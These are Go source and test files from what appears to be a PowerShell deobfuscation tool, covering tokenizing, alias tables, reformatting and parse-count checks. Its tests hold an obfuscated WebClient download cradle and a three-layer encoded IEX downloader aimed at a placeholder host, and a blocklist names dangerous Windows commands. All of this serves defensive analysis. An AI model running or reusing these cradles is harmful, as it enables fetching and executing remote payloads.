		"Comment:# trailing", "Comment:<# block\ncomment #>",
	}
	if !equalStrings(got, want) {
		t.Errorf("got %v want %v", got, want)
	}
}

func TestTokenizeErrors(t *testing.T) {
	bad := []string{
		"'unterminated",
		"\"unterminated",
		"<# unterminated",
		"(unclosed",
		"@'\nunterminated",
		"[unclosed",
	}
	for _, src := range bad {
		if _, err := Tokenize(src); err == nil {
			t.Errorf("Tokenize(%q): expected error", src)
		}
	}
}

func TestTokenExtentsCoverSource(t *testing.T) {
	srcs := []string{
		"write-host hello",
		"(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng('x')",
		"$a = 1; foreach ($i in 1..3) { $a += $i }",
		"@{k='v'; n=2}",
		"\"expand $($a)\" | % { $_ }",
	}
	for _, src := range srcs {
		toks, err := Tokenize(src)
		if err != nil {
			t.Fatalf("Tokenize(%q): %v", src, err)
		}
		last := 0
		for _, tok := range toks {
			if tok.Start < last {
				t.Errorf("%q: token %v overlaps previous (start %d < %d)", src, tok, tok.Start, last)
			}
			if tok.End() > len(src) {
				t.Errorf("%q: token %v extends past source", src, tok)
			}
			if src[tok.Start:tok.End()] != tok.Text {
				t.Errorf("%q: token text %q != source slice %q", src, tok.Text, src[tok.Start:tok.End()])
			}
			last = tok.End()
		}
	}
}

// TestTokenizeNeverPanics fuzzes the tokenizer with random strings: it
// must return tokens or an error, never panic, and extents must stay in
// bounds.
func TestTokenizeNeverPanics(t *testing.T) {
	f := func(src string) bool {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("panic on %q: %v", src, r)
			}
		}()
		toks, _ := Tokenize(src)
		for _, tok := range toks {
			if tok.Start < 0 || tok.End() > len(src) || tok.Length < 0 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Error(err)
	}
}

// TestTokenizeProgress checks that every significant token consumes at
// least one byte (no infinite-loop constructions).
func TestTokenizeProgress(t *testing.T) {
	f := func(parts []string) bool {
		src := strings.Join(parts, " ")
		if len(src) > 2048 {
			src = src[:2048]
		}
		toks, _ := Tokenize(src)
		for _, tok := range toks {
			if tok.Length == 0 && tok.Type != Unknown {
				t.Logf("zero-length token %v in %q", tok, src)
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestFindMatchingParen(t *testing.T) {
	tests := []struct {
		src  string
		open int
		want int
		ok   bool
	}{
		{"(abc)", 0, 4, true},
		{"(a(b)c)", 0, 6, true},
		{"('a)b')", 0, 6, true},
		{`("a)b")`, 0, 6, true},
		{"(unclosed", 0, 0, false},
		{"(a`)b)", 0, 5, true},
	}
	for _, tt := range tests {
		got, ok := FindMatchingParen(tt.src, tt.open)
		if ok != tt.ok || (ok && got != tt.want) {
			t.Errorf("FindMatchingParen(%q) = %d,%v want %d,%v", tt.src, got, ok, tt.want, tt.ok)
		}
	}
}

func TestStripTicks(t *testing.T) {
	tests := map[string]string{
		"i`e`x":   "iex",
		"plain":   "plain",
		"a``b":    "a`b",
		"trail`":  "trail",
		"`w`hole": "whole",
	}
	for in, want := range tests {
		if got := StripTicks(in); got != want {
			t.Errorf("StripTicks(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestIsNumberLiteral(t *testing.T) {
	yes := []string{"1", "-5", "0x4B", "3.14", "1e3", "2kb", "10mb", "7L", "4d"}
	no := []string{"", "x", "1x", "0x", "1.2.3", "--2", "kb", "1e", "abc123"}
	for _, s := range yes {
		if !isNumberLiteral(s) {
			t.Errorf("isNumberLiteral(%q) = false, want true", s)
		}
	}
	for _, s := range no {
		if isNumberLiteral(s) {
			t.Errorf("isNumberLiteral(%q) = true, want false", s)
		}
	}
}

func equalStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
