package psnames

import "testing"

func TestResolveAlias(t *testing.T) {
	tests := map[string]string{
		"iex":     "Invoke-Expression",
		"IEX":     "Invoke-Expression",
		"%":       "ForEach-Object",
		"?":       "Where-Object",
		"wget":    "Invoke-WebRequest",
		"sleep":   "Start-Sleep",
		"unknown": "",
	}
	for in, want := range tests {
		if got := ResolveAlias(in); got != want {
			t.Errorf("ResolveAlias(%q) = %q, want %q", in, got, want)
		}
	}
	if !IsAlias("gci") || IsAlias("not-an-alias") {
		t.Error("IsAlias broken")
	}
}

func TestCanonicalCommandCase(t *testing.T) {
	tests := map[string]string{
		"write-host":        "Write-Host",
		"WRITE-HOST":        "Write-Host",
		"new-object":        "New-Object",
		"invoke-expression": "Invoke-Expression",
		"pOwErShElL":        "powershell",
		"POWERSHELL.EXE":    "powershell.exe",
		"get-customthing":   "Get-Customthing", // unknown verb-noun
		"weird_name":        "weird_name",      // untouched
		"7z":                "7z",
	}
	for in, want := range tests {
		if got := CanonicalCommandCase(in); got != want {
			t.Errorf("CanonicalCommandCase(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCanonicalCmdlet(t *testing.T) {
	if c, ok := CanonicalCmdlet("FOREACH-OBJECT"); !ok || c != "ForEach-Object" {
		t.Errorf("CanonicalCmdlet = %q, %v", c, ok)
	}
	if _, ok := CanonicalCmdlet("no-such"); ok {
		t.Error("unknown cmdlet reported known")
	}
}

func TestDefaultBlocklist(t *testing.T) {
	bl := DefaultBlocklist()
	for _, name := range []string{"restart-computer", "start-sleep", "invoke-webrequest", "start-process"} {
		if !bl[name] {
			t.Errorf("blocklist missing %q", name)
		}
	}
	// Pure transformations must not be blocked.
	for _, name := range []string{"foreach-object", "write-output", "convertto-securestring"} {
		if bl[name] {
			t.Errorf("blocklist wrongly contains %q", name)
		}
	}
}

func TestAliasesCopy(t *testing.T) {
	m := Aliases()
	m["iex"] = "Tampered"
	if ResolveAlias("iex") != "Invoke-Expression" {
		t.Error("Aliases() exposed internal map")
	}
}
