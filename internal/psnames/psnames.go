// Package psnames holds the shared PowerShell name tables: alias →
// cmdlet mappings and canonical cmdlet casing. The token-parsing phase
// of the deobfuscator uses them to expand aliases and normalize random
// case (paper §III-A); the interpreter uses them to resolve command
// invocations.
package psnames

import "strings"

// aliases maps lower-cased aliases to their canonical cmdlet names.
var aliases = map[string]string{
	"iex":     "Invoke-Expression",
	"icm":     "Invoke-Command",
	"iwr":     "Invoke-WebRequest",
	"curl":    "Invoke-WebRequest",
	"wget":    "Invoke-WebRequest",
	"irm":     "Invoke-RestMethod",
	"ii":      "Invoke-Item",
	"gal":     "Get-Alias",
	"sal":     "Set-Alias",
	"nal":     "New-Alias",
	"gcm":     "Get-Command",
	"gci":     "Get-ChildItem",
	"ls":      "Get-ChildItem",
	"dir":     "Get-ChildItem",
	"gc":      "Get-Content",
	"cat":     "Get-Content",
	"type":    "Get-Content",
	"sc":      "Set-Content",
	"ac":      "Add-Content",
	"gi":      "Get-Item",
	"si":      "Set-Item",
	"ni":      "New-Item",
	"ri":      "Remove-Item",
	"rm":      "Remove-Item",
	"rmdir":   "Remove-Item",
	"del":     "Remove-Item",
	"erase":   "Remove-Item",
	"rd":      "Remove-Item",
	"cpi":     "Copy-Item",
	"cp":      "Copy-Item",
	"copy":    "Copy-Item",
	"mi":      "Move-Item",
	"mv":      "Move-Item",
	"move":    "Move-Item",
	"rni":     "Rename-Item",
	"ren":     "Rename-Item",
	"gl":      "Get-Location",
	"pwd":     "Get-Location",
	"sl":      "Set-Location",
	"cd":      "Set-Location",
	"chdir":   "Set-Location",
	"gv":      "Get-Variable",
	"sv":      "Set-Variable",
	"set":     "Set-Variable",
	"nv":      "New-Variable",
	"rv":      "Remove-Variable",
	"clv":     "Clear-Variable",
	"gm":      "Get-Member",
	"gps":     "Get-Process",
	"ps":      "Get-Process",
	"spps":    "Stop-Process",
	"kill":    "Stop-Process",
	"saps":    "Start-Process",
	"start":   "Start-Process",
	"sleep":   "Start-Sleep",
	"gsv":     "Get-Service",
	"sasv":    "Start-Service",
	"spsv":    "Stop-Service",
	"echo":    "Write-Output",
	"write":   "Write-Output",
	"cls":     "Clear-Host",
	"clear":   "Clear-Host",
	"select":  "Select-Object",
	"where":   "Where-Object",
	"?":       "Where-Object",
	"foreach": "ForEach-Object",
	"%":       "ForEach-Object",
	"sort":    "Sort-Object",
	"group":   "Group-Object",
	"measure": "Measure-Object",
	"compare": "Compare-Object",
	"diff":    "Compare-Object",
	"tee":     "Tee-Object",
	"ft":      "Format-Table",
	"fl":      "Format-List",
	"fw":      "Format-Wide",
	"oh":      "Out-Host",
	"sls":     "Select-String",
	"ipmo":    "Import-Module",
	"gmo":     "Get-Module",
	"rmo":     "Remove-Module",
	"gu":      "Get-Unique",
	"gh":      "Get-Help",
	"man":     "Get-Help",
	"history": "Get-History",
	"h":       "Get-History",
	"ghy":     "Get-History",
	"pushd":   "Push-Location",
	"popd":    "Pop-Location",
	"sbp":     "Set-PSBreakpoint",
	"sp":      "Set-ItemProperty",
	"gp":      "Get-ItemProperty",
	"rp":      "Remove-ItemProperty",
	"epal":    "Export-Alias",
	"ipal":    "Import-Alias",
	"asnp":    "Add-PSSnapin",
	"gsnp":    "Get-PSSnapin",
	"gjb":     "Get-Job",
	"sajb":    "Start-Job",
	"rcjb":    "Receive-Job",
	"wjb":     "Wait-Job",
	"nsn":     "New-PSSession",
	"gsn":     "Get-PSSession",
	"etsn":    "Enter-PSSession",
	"exsn":    "Exit-PSSession",
}

// canonical maps lower-cased cmdlet names to their canonical casing.
var canonical = map[string]string{}

// knownCmdlets is the canonical-case list used to build the canonical
// map and to answer Get-Command wildcard queries.
var knownCmdlets = []string{
	"Invoke-Expression", "Invoke-Command", "Invoke-WebRequest",
	"Invoke-RestMethod", "Invoke-Item", "Get-Alias", "Set-Alias",
	"New-Alias", "Get-Command", "Get-ChildItem", "Get-Content",
	"Set-Content", "Add-Content", "Get-Item", "Set-Item", "New-Item",
	"Remove-Item", "Copy-Item", "Move-Item", "Rename-Item",
	"Get-Location", "Set-Location", "Get-Variable", "Set-Variable",
	"New-Variable", "Remove-Variable", "Clear-Variable", "Get-Member",
	"Get-Process", "Stop-Process", "Start-Process", "Start-Sleep",
	"Get-Service", "Start-Service", "Stop-Service", "Write-Output",
	"Write-Host", "Write-Error", "Write-Warning", "Write-Verbose",
	"Write-Debug", "Clear-Host", "Select-Object", "Where-Object",
	"ForEach-Object", "Sort-Object", "Group-Object", "Measure-Object",
	"Compare-Object", "Tee-Object", "Format-Table", "Format-List",
	"Format-Wide", "Out-Null", "Out-String", "Out-File", "Out-Host",
	"Out-Default", "Select-String", "Import-Module", "Get-Module",
	"Remove-Module", "New-Object", "Get-Date", "Get-Random",
	"Start-BitsTransfer", "ConvertTo-SecureString",
	"ConvertFrom-SecureString", "ConvertTo-Json", "ConvertFrom-Json",
	"Split-Path", "Join-Path", "Test-Path", "Resolve-Path",
	"Read-Host", "Add-Type", "Set-ExecutionPolicy", "Get-ExecutionPolicy",
	"Restart-Computer", "Stop-Computer", "Get-WmiObject",
	"Get-CimInstance", "Register-ScheduledTask", "New-ScheduledTaskAction",
	"Get-ItemProperty", "Set-ItemProperty", "Remove-ItemProperty",
	"New-ItemProperty", "Push-Location", "Pop-Location",
	"Get-Host", "Get-Culture", "Get-Credential", "Export-Csv",
	"Import-Csv", "Get-Clipboard", "Set-Clipboard", "Get-Unique",
	"Start-Job", "Get-Job", "Receive-Job", "Wait-Job", "Remove-Job",
	"Unblock-File", "Get-FileHash", "Expand-Archive", "Compress-Archive",
}

func init() {
	for _, name := range knownCmdlets {
		canonical[strings.ToLower(name)] = name
	}
}

// ResolveAlias returns the canonical cmdlet for an alias, or "" when the
// name is not an alias.
func ResolveAlias(name string) string {
	return aliases[strings.ToLower(name)]
}

// IsAlias reports whether name is a known alias.
func IsAlias(name string) bool {
	_, ok := aliases[strings.ToLower(name)]
	return ok
}

// CanonicalCmdlet returns the canonical casing of a known cmdlet and
// whether it is known.
func CanonicalCmdlet(name string) (string, bool) {
	c, ok := canonical[strings.ToLower(name)]
	return c, ok
}

// knownExecutables are single-word external commands whose canonical
// presentation is lower case.
var knownExecutables = map[string]bool{
	"powershell": true, "pwsh": true, "cmd": true, "wscript": true,
	"cscript": true, "mshta": true, "rundll32": true, "regsvr32": true,
	"certutil": true, "bitsadmin": true, "schtasks": true, "whoami": true,
	"ping": true, "ipconfig": true, "systeminfo": true, "tasklist": true,
	"net": true, "netsh": true, "reg": true, "sc": true, "attrib": true,
	"msbuild": true, "installutil": true, "curl": true, "wget": true,
}

// CanonicalCommandCase returns the canonical presentation of a command
// name: known cmdlets get their exact casing, known executables are
// lower-cased, unknown verb-noun names get Verb-Noun capitalization,
// anything else is returned unchanged.
func CanonicalCommandCase(name string) string {
	if c, ok := CanonicalCmdlet(name); ok {
		return c
	}
	lower := strings.ToLower(name)
	base := strings.TrimSuffix(lower, ".exe")
	if knownExecutables[base] {
		return lower
	}
	if i := strings.IndexByte(name, '-'); i > 0 && i < len(name)-1 {
		verb, noun := name[:i], name[i+1:]
		if isAlphaWord(verb) && isAlphaWord(noun) {
			return capitalize(verb) + "-" + capitalize(noun)
		}
	}
	return name
}

// KnownCmdlets returns all canonical cmdlet names (for Get-Command
// wildcard queries).
func KnownCmdlets() []string {
	return append([]string(nil), knownCmdlets...)
}

// Aliases returns a copy of the alias table.
func Aliases() map[string]string {
	out := make(map[string]string, len(aliases))
	for k, v := range aliases {
		if v != "" {
			out[k] = v
		}
	}
	return out
}

func isAlphaWord(s string) bool {
	for _, r := range s {
		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z') {
			return false
		}
	}
	return len(s) > 0
}

func capitalize(s string) string {
	if s == "" {
		return s
	}
	return strings.ToUpper(s[:1]) + strings.ToLower(s[1:])
}

// DefaultBlocklist returns the paper's irrelevant-command blocklist:
// commands whose execution cannot contribute to recovering obfuscated
// strings and would only slow down or endanger deobfuscation (§III-B2).
func DefaultBlocklist() map[string]bool {
	list := []string{
		"restart-computer", "stop-computer", "start-sleep", "sleep",
		"restart-service", "stop-service", "stop-process", "kill",
		"remove-item", "clear-recyclebin", "set-executionpolicy",
		"invoke-webrequest", "invoke-restmethod", "start-bitstransfer",
		"start-process", "start-job", "invoke-wmimethod",
		"new-service", "set-service", "register-scheduledtask",
		"new-scheduledtaskaction", "shutdown", "logoff",
		"clear-eventlog", "remove-computer", "rundll32", "regsvr32",
		"schtasks", "bitsadmin", "certutil", "wmic", "net", "netsh",
		"attrib", "taskkill", "vssadmin", "bcdedit", "cipher",
		"read-host", "get-credential", "send-mailmessage",
	}
	out := make(map[string]bool, len(list))
	for _, name := range list {
		out[name] = true
	}
	return out
}
