package psfront

import (
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// span is a byte range within the reformatted source.
type span struct{ start, end int }

func inSpans(spans []span, off int) bool {
	for _, s := range spans {
		if off >= s.start && off < s.end {
			return true
		}
	}
	return false
}

// reformatPhase removes random whitespace and re-indents the script
// with a standardized format (paper §III-C). String and comment
// contents are preserved verbatim, including the interior of
// here-strings, which must keep their exact layout. Tokenization of
// the source and of the collapsed intermediate both go through the
// run's cache, as does the final validity check.
func (r *run) reformatPhase(pc *pipeline.PassContext, doc *pipeline.Document) {
	view := doc.View()
	src := doc.Text()
	collapsed := collapseWhitespace(view, src)
	toks, err := viewTokenize(view, collapsed)
	if err != nil {
		doc.SetText(pc.ValidOrRevert(view, collapsed, src))
		return
	}
	var literal []span   // strings and comments: braces inside do not nest
	var multiline []span // multi-line literals: lines stay verbatim
	for _, t := range toks {
		if t.Type != pstoken.String && t.Type != pstoken.Comment {
			continue
		}
		literal = append(literal, span{t.Start, t.End()})
		if strings.Contains(t.Text, "\n") {
			multiline = append(multiline, span{t.Start, t.End()})
		}
	}
	indented := reindent(collapsed, literal, multiline)
	doc.SetText(pc.ValidOrRevert(view, indented, src))
}

// collapseWhitespace reduces runs of spaces and tabs outside strings and
// comments to a single space and trims trailing whitespace.
func collapseWhitespace(view *pipeline.View, src string) string {
	toks, err := viewTokenize(view, src)
	if err != nil {
		return src
	}
	// Protected spans: copy verbatim.
	var protected []span
	for _, t := range toks {
		if t.Type == pstoken.String || t.Type == pstoken.Comment {
			protected = append(protected, span{t.Start, t.End()})
		}
	}
	var sb strings.Builder
	sb.Grow(len(src))
	pi := 0
	i := 0
	for i < len(src) {
		if pi < len(protected) && i == protected[pi].start {
			sb.WriteString(src[i:protected[pi].end])
			i = protected[pi].end
			pi++
			continue
		}
		c := src[i]
		if c == ' ' || c == '\t' {
			j := i
			for j < len(src) && (src[j] == ' ' || src[j] == '\t') {
				// Never run into a protected span.
				if pi < len(protected) && j == protected[pi].start {
					break
				}
				j++
			}
			// Trailing whitespace before a newline disappears entirely.
			if j < len(src) && (src[j] == '\n' || src[j] == '\r') {
				i = j
				continue
			}
			if sb.Len() > 0 {
				last := sb.String()[sb.Len()-1]
				if last != '\n' && last != ' ' {
					sb.WriteByte(' ')
				}
			}
			i = j
			continue
		}
		if c == '\r' {
			i++
			continue
		}
		if c == '\n' {
			// Collapse blank-line runs to a single newline.
			if sb.Len() == 0 || strings.HasSuffix(sb.String(), "\n") {
				i++
				continue
			}
			sb.WriteByte('\n')
			i++
			continue
		}
		sb.WriteByte(c)
		i++
	}
	return strings.TrimRight(sb.String(), "\n ") + "\n"
}

// reindent indents each line by brace depth. Braces inside literal
// spans do not affect depth; lines that begin inside a multi-line
// literal are emitted verbatim.
func reindent(src string, literal, multiline []span) string {
	var sb strings.Builder
	depth := 0
	lineStart := 0
	for lineStart <= len(src) {
		lineEnd := strings.IndexByte(src[lineStart:], '\n')
		last := false
		if lineEnd < 0 {
			lineEnd = len(src)
			last = true
		} else {
			lineEnd += lineStart
		}
		line := src[lineStart:lineEnd]
		if inSpans(multiline, lineStart) {
			// Interior (or terminator) of a here-string/block comment.
			sb.WriteString(line)
		} else {
			trimmed := strings.TrimLeft(line, " \t")
			closers := 0
			for _, r := range trimmed {
				if r == '}' || r == ')' {
					closers++
					continue
				}
				break
			}
			indentLevel := depth - closers
			if indentLevel < 0 {
				indentLevel = 0
			}
			if trimmed != "" {
				sb.WriteString(strings.Repeat("    ", indentLevel))
			}
			sb.WriteString(trimmed)
		}
		// Update depth from braces outside literals.
		for i := lineStart; i < lineEnd; i++ {
			if inSpans(literal, i) {
				continue
			}
			switch src[i] {
			case '{':
				depth++
			case '}':
				if depth > 0 {
					depth--
				}
			}
		}
		if last {
			break
		}
		sb.WriteByte('\n')
		lineStart = lineEnd + 1
	}
	return sb.String()
}
