package psfront

import (
	"sort"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// Splice implements pipeline.Splicer: it applies a batch of
// non-overlapping edits to text in one pass and synthesizes the new
// text's token stream and AST from statement-slice reparses plus
// offset-shifted reuse of the old artifacts, publishing both through
// the view's cache. The ast phase's replacement batch then costs one
// parse per *touched top-level statement* instead of a full-document
// validation parse, and every downstream consumer of the new text
// (fixpoint convergence check, nested-layer statement count, final
// validity check) hits the cache.
//
// Correctness rests on a locality argument: the tokenizer is
// mode-aware, so a source slice lexes identically standalone and
// in-document only when the document lexer would enter the slice at
// statement-start state with an empty delimiter stack and leave it the
// same way. Splice establishes that by construction — edits must fall
// inside top-level statement extents, and a touched statement must be
// bounded by line breaks (or text ends) on both sides. Anything else
// reports ok=false and the caller falls back to the full reparse path,
// so a rejected splice costs nothing but the attempt.
func (PS) Splice(view *pipeline.View, text string, edits []pipeline.Edit) (string, bool) {
	if len(edits) == 0 {
		return "", false
	}
	sorted := make([]pipeline.Edit, len(edits))
	copy(sorted, edits)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].Start < sorted[j].Start })
	prevEnd := 0
	for _, e := range sorted {
		if e.Start < prevEnd || e.End < e.Start || e.End > len(text) {
			return "", false // overlapping or out of bounds
		}
		prevEnd = e.End
	}

	// Both artifacts of the old text are already cached (the ast phase
	// walked the old AST to produce the edits), so these are hits.
	root, err := viewParse(view, text)
	if err != nil || root.Body == nil {
		return "", false
	}
	toks, err := viewTokenize(view, text)
	if err != nil {
		return "", false
	}

	// Map every edit to the unique top-level statement containing it.
	stmts := root.Body.Statements
	touched := make(map[int][]pipeline.Edit) // statement index -> its edits
	si := 0
	for _, e := range sorted {
		for si < len(stmts) && stmts[si].Extent().End < e.End {
			si++
		}
		if si == len(stmts) {
			return "", false
		}
		ext := stmts[si].Extent()
		if e.Start < ext.Start || e.End > ext.End {
			return "", false // crosses a statement boundary or lies outside all statements
		}
		touched[si] = append(touched[si], e)
	}

	for idx := range touched {
		if !stmtLineIsolated(toks, stmts[idx].Extent()) {
			return "", false
		}
	}

	// Build the new text and, per touched statement, its replacement
	// slice and new start offset. Edits are globally sorted and each is
	// inside a statement, so one cursor pass produces everything.
	var out strings.Builder
	out.Grow(len(text))
	newStart := make(map[int]int, len(touched))
	cursor := 0
	ei := 0
	for idx, st := range stmts {
		if _, ok := touched[idx]; !ok {
			continue
		}
		ext := st.Extent()
		out.WriteString(text[cursor:ext.Start])
		newStart[idx] = out.Len()
		slicePos := ext.Start
		for ei < len(sorted) && sorted[ei].End <= ext.End {
			out.WriteString(text[slicePos:sorted[ei].Start])
			out.WriteString(sorted[ei].New)
			slicePos = sorted[ei].End
			ei = ei + 1
		}
		out.WriteString(text[slicePos:ext.End])
		cursor = ext.End
	}
	out.WriteString(text[cursor:])
	newText := out.String()
	if strings.TrimSpace(newText) == "" {
		return "", false
	}

	// Reparse and retokenize each touched statement's new slice. These
	// are the only parser invocations a successful splice performs; the
	// slices go through the view so identical replacement texts across
	// layers or iterations parse once.
	type slicePart struct {
		root *psast.ScriptBlock
		toks []pstoken.Token
	}
	parts := make(map[int]slicePart, len(touched))
	for idx := range touched {
		ext := stmts[idx].Extent()
		delta := newStart[idx] - ext.Start
		slice := newText[newStart[idx] : ext.End+delta+sliceGrowth(touched[idx])]
		sr, err := viewParse(view, slice)
		if err != nil || sr.Body == nil || sr.Params != nil || len(sr.Body.Statements) == 0 {
			return "", false
		}
		stoks, err := viewTokenize(view, slice)
		if err != nil || len(stoks) == 0 {
			return "", false
		}
		if stoks[len(stoks)-1].Type == pstoken.LineContinuation {
			return "", false // would merge with the following line
		}
		parts[idx] = slicePart{root: sr, toks: stoks}
	}

	// Synthesize the new AST: untouched statements shift by the
	// cumulative byte delta (sharing structure at delta zero), touched
	// statements are replaced by their slice's freshly parsed
	// statements shifted to their document position.
	var newStmts []psast.Node
	delta := 0
	for idx, st := range stmts {
		if part, ok := parts[idx]; ok {
			base := newStart[idx]
			for _, inner := range part.root.Body.Statements {
				shifted := psast.Shift(inner, base)
				if shifted == nil {
					return "", false
				}
				newStmts = append(newStmts, shifted)
			}
			delta += sliceGrowth(touched[idx])
			continue
		}
		shifted := psast.Shift(st, delta)
		if shifted == nil {
			return "", false
		}
		newStmts = append(newStmts, shifted)
	}
	newRoot := &psast.ScriptBlock{
		Ext:    psast.Extent{Start: 0, End: len(newText)},
		Params: root.Params,
		Body: &psast.NamedBlock{
			Ext:        psast.Extent{Start: 0, End: len(newText)},
			Statements: newStmts,
		},
	}

	// Synthesize the new token stream: old tokens outside touched
	// statements shift by the running delta, slice tokens land at their
	// statement's new start. Line/column are recomputed afterwards in
	// one linear scan.
	newToks := make([]pstoken.Token, 0, len(toks))
	delta = 0
	ti := 0
	for idx, st := range stmts {
		part, ok := parts[idx]
		if !ok {
			continue
		}
		ext := st.Extent()
		for ti < len(toks) && toks[ti].Start < ext.Start {
			t := toks[ti]
			t.Start += delta
			newToks = append(newToks, t)
			ti++
		}
		for _, t := range part.toks {
			t.Start += newStart[idx]
			newToks = append(newToks, t)
		}
		for ti < len(toks) && toks[ti].Start < ext.End {
			ti++ // old tokens of the replaced statement
		}
		delta += sliceGrowth(touched[idx])
	}
	for ; ti < len(toks); ti++ {
		t := toks[ti]
		t.Start += delta
		newToks = append(newToks, t)
	}
	recomputeLines(newText, newToks)

	// Publish both artifacts; later Tokenize/Parse calls on newText are
	// cache hits, which is what turns O(replacements) full parses into
	// O(touched statements) slice parses.
	view.Insert(newText, newToks, newRoot)
	return newText, true
}

// sliceGrowth is the net byte delta a statement's edit batch produces.
func sliceGrowth(edits []pipeline.Edit) int {
	g := 0
	for _, e := range edits {
		g += len(e.New) - (e.End - e.Start)
	}
	return g
}

// stmtLineIsolated reports whether the statement extent is bounded by
// line breaks: the nearest token before it (if any) and after it (if
// any) are NewLine tokens, and no token straddles either boundary. The
// tokenizer enters a fresh line at statement-start state with an empty
// stack and no attachment, and leaves the statement the same way after
// the following line break — exactly the conditions under which a
// standalone slice tokenization matches the in-document one. `;`-joined
// statements, inline comments before the statement and delimiter spans
// crossing the boundary all fail here and fall back to a full reparse.
func stmtLineIsolated(toks []pstoken.Token, ext psast.Extent) bool {
	// Binary search for the first token starting at or after ext.Start.
	lo := sort.Search(len(toks), func(i int) bool { return toks[i].Start >= ext.Start })
	if lo > 0 {
		prev := toks[lo-1]
		if prev.End() > ext.Start || prev.Type != pstoken.NewLine {
			return false
		}
	}
	hi := sort.Search(len(toks), func(i int) bool { return toks[i].Start >= ext.End })
	if hi > 0 && toks[hi-1].End() > ext.End {
		return false
	}
	if hi < len(toks) && toks[hi].Type != pstoken.NewLine {
		return false
	}
	return true
}

// recomputeLines rewrites every token's Line/Column against text in one
// linear scan, matching the tokenizer's convention (both 1-based, taken
// at the token's start byte). Tokens must be sorted by Start.
func recomputeLines(text string, toks []pstoken.Token) {
	line, lineStart, pos := 1, 0, 0
	for i := range toks {
		for ; pos < toks[i].Start; pos++ {
			if text[pos] == '\n' {
				line++
				lineStart = pos + 1
			}
		}
		toks[i].Line = line
		toks[i].Column = toks[i].Start - lineStart + 1
	}
}
