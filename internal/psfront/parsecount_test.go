package psfront

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// encodeUTF16LEBase64 encodes a script the way PowerShell's
// -EncodedCommand expects: UTF-16LE bytes, then standard base64.
func encodeUTF16LEBase64(s string) string {
	buf := make([]byte, 0, len(s)*2)
	for _, r := range s {
		if r > 0xFFFF {
			r = '?'
		}
		buf = append(buf, byte(r), byte(r>>8))
	}
	return base64.StdEncoding.EncodeToString(buf)
}

// threeLayerScript builds a fixed 3-layer obfuscated script: an inner
// downloader wrapped in powershell -EncodedCommand, wrapped in a
// string-concat IEX, wrapped in another -EncodedCommand. Every layer
// forces the engine through token parsing, recovery, and unwrap.
func threeLayerScript() string {
	inner := "$u = 'http://layer.test/payload.ps1'\n" +
		"(New-Object Net.WebClient).DownloadString($u)\n"
	layer2 := "powershell -EncodedCommand " + encodeUTF16LEBase64(inner)
	layer1 := "I`eX ('" + strings.ReplaceAll(layer2, "'", "''") + "')"
	return "powershell -enc " + encodeUTF16LEBase64(layer1) + "\n"
}

// parseBudget is the ceiling on full psparser.Parse invocations for one
// default-options run over threeLayerScript. With batched splicing,
// static literal probes and the merged payload validity gates the run
// measures exactly 8 (one per distinct text the engine must actually
// analyze: the source, two decoded payloads, three token-phase
// rewrites, one piece snippet, the renamed output); the budget is that
// measurement, so any reintroduction of per-replacement full reparses
// or per-probe parses fails loudly.
const parseBudget = 8

// preRefactorParseCount is the measured parse count of the seed engine
// (PR 1, pre-pipeline) on threeLayerScript, recorded before the
// refactor. Kept as a constant so the ≥2× amortization claim stays
// checkable.
const preRefactorParseCount = 55

func TestParseCountBudget(t *testing.T) {
	script := threeLayerScript()
	d := core.New(core.Options{Lang: "powershell"})
	// Warm-up run outside the measurement so one-time costs don't skew.
	if _, err := d.Deobfuscate(script); err != nil {
		t.Fatalf("warm-up: %v", err)
	}
	before := psparser.ParseCalls()
	res, err := d.Deobfuscate(script)
	after := psparser.ParseCalls()
	if err != nil {
		t.Fatalf("Deobfuscate: %v", err)
	}
	if !strings.Contains(res.Script, "http://layer.test/payload.ps1") {
		t.Fatalf("3-layer script not recovered:\n%s", res.Script)
	}
	parses := after - before
	t.Logf("parses per run: %d (pre-refactor engine: %d)", parses, preRefactorParseCount)
	if parses > parseBudget {
		t.Errorf("parse amortization regressed: %d parses per run, budget %d "+
			"(someone reintroduced per-splice full reparses?)", parses, parseBudget)
	}
	if parses*2 > preRefactorParseCount {
		t.Errorf("parse count %d is not ≥2× below the pre-refactor engine's %d",
			parses, preRefactorParseCount)
	}
}

// TestParseCountReportsAllInputs prints (verbose mode) the per-input
// parse counts over the deterministic corpus — a quick profiling aid,
// not an assertion. The corpus parameters pin the same inputs as the
// core equivalence suite.
func TestParseCountReportsAllInputs(t *testing.T) {
	if testing.Short() {
		t.Skip("profiling aid")
	}
	samples := corpus.Generate(corpus.Config{Seed: 20220627, N: 24, MaxL3Layers: 3})
	d := core.New(core.Options{Lang: "powershell"})
	var total int64
	for i, s := range samples {
		before := psparser.ParseCalls()
		if _, err := d.Deobfuscate(s.Source); err != nil {
			t.Fatalf("corpus_%02d: %v", i, err)
		}
		total += psparser.ParseCalls() - before
	}
	t.Log(fmt.Sprintf("total parses across %d corpus scripts: %d", len(samples), total))
}
