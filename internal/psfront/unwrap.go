package psfront

import (
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
)

// maxUnwrapDepth bounds nested layer recursion independently of the
// fixpoint loop.
const maxUnwrapDepth = 16

